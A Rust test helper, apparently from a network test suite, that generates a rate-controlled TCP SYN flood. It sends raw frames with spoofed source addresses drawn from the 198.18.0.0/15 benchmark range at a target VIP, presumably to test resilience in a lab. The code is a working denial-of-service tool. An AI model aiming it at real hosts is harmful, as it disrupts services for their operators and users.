//! A SYN flood: TCP SYNs from random source addresses and ports, sent as raw frames at a given rate.

use std::{
    net::{Ipv4Addr, SocketAddrV4},
    sync::{
        Arc,
        atomic::{AtomicBool, AtomicU64, Ordering},
    },
    thread::JoinHandle,
    time::{Duration, Instant},
};

use anyhow::{Context, Result, anyhow};
use etherparse::PacketBuilder;

use super::{
    host::Host,
    raw::RawSocket,
    wait::{eventually, let_pass},
};

/// Sources are drawn from 198.18.0.0/15, the benchmark network (RFC 2544).
const SOURCES: u32 = u32::from_be_bytes([198, 18, 0, 0]);
const SOURCE_BITS: u32 = 17;
/// Sent at once at most: half a veth's ring.
const BURST: u64 = 128;

/// A flood that goes on until stopped.
#[derive(Debug)]
pub struct SynFlood {
    stop: Arc<AtomicBool>,
    sent: Arc<AtomicU64>,
    thread: Option<JoinHandle<Result<()>>>,
}

impl SynFlood {
    /// Starts sending `rate` SYNs a second from a machine's `eth0` to a VIP that has this MAC address.
    ///
    /// # Errors
    /// When no raw socket can be made.
    pub fn start(attacker: &Host, target: SocketAddrV4, target_mac: &str, rate: u64) -> Result<Self> {
        let own = parse_mac(&attacker.mac("eth0")?)?;
        let to = parse_mac(target_mac)?;
        let socket = attacker.run(|| RawSocket::open("eth0", Duration::ZERO))?;
        let (stop, sent) = (Arc::new(AtomicBool::new(false)), Arc::new(AtomicU64::new(0)));
        let (stopped, count) = (Arc::clone(&stop), Arc::clone(&sent));
        let thread = attacker.spawn(move || {
            let mut random = Random(0x5eed);
            let (mut number, start) = (0, Instant::now());
            while !stopped.load(Ordering::Relaxed) {
                let due = start.elapsed().as_micros() as u64 * rate / 1_000_000;
                for _ in 0..due.saturating_sub(number).min(BURST) {
                    // A full queue drops a SYN: a flood does not mind.
                    let _ = socket.send(&syn(own, to, target, &mut random)?);
                    number += 1;
                    count.fetch_add(1, Ordering::Relaxed);
                }
                let_pass(Duration::from_millis(1));
            }
            Ok(())
        })?;
        Ok(Self { stop, sent, thread: Some(thread) })
    }

    /// SYNs sent so far.
    pub fn sent(&self) -> u64 {
        self.sent.load(Ordering::Relaxed)
    }

    /// Waits until `count` more are sent.
    ///
    /// # Errors
    /// When that takes too long.
    pub fn wait_for_more(&self, count: u64) -> Result<()> {
        let goal = self.sent() + count;
        eventually("the flood goes on", Duration::from_secs(30), || self.sent() >= goal).map(drop)
    }

    /// Stops; how many were sent.
    ///
    /// # Errors
    /// When it failed.
    pub fn stop(mut self) -> Result<u64> {
        self.stop.store(true, Ordering::Relaxed);
        let thread = self.thread.take().context("stopped already")?;
        thread.join().map_err(|_| anyhow!("the flood panicked"))??;
        Ok(self.sent())
    }
}

impl Drop for SynFlood {
    fn drop(&mut self) {
        self.stop.store(true, Ordering::Relaxed);
        if let Some(thread) = self.thread.take() {
            // The test is failing already.
            let _ = thread.join();
        }
    }
}

fn syn(own: [u8; 6], to: [u8; 6], target: SocketAddrV4, random: &mut Random) -> Result<Vec<u8>> {
    let source = Ipv4Addr::from(SOURCES | random.next() as u32 >> (32 - SOURCE_BITS));
    let source_port = 1024 + (random.next() % 60_000) as u16;
    let builder = PacketBuilder::ethernet2(own, to)
        .ipv4(source.octets(), target.ip().octets(), 64)
        .tcp(source_port, target.port(), random.next() as u32, 64_240)
        .syn();
    let mut frame = Vec::with_capacity(64);
    builder.write(&mut frame, &[])?;
    Ok(frame)
}

/// `aa:bb:cc:dd:ee:ff` as bytes.
///
/// # Errors
/// When it is not that.
pub fn parse_mac(text: &str) -> Result<[u8; 6]> {
    let bytes: Vec<u8> =
        text.split(':').map(|byte| u8::from_str_radix(byte, 16)).collect::<Result<_, _>>().context("a MAC address")?;
    bytes.try_into().map_err(|_| anyhow!("{text} is no MAC address"))
}

/// xorshift64: the same flood in every run.
struct Random(u64);

impl Random {
    fn next(&mut self) -> u64 {
        self.0 ^= self.0 << 13;
        self.0 ^= self.0 >> 7;
        self.0 ^= self.0 << 17;
        self.0 >> 16
    }
}
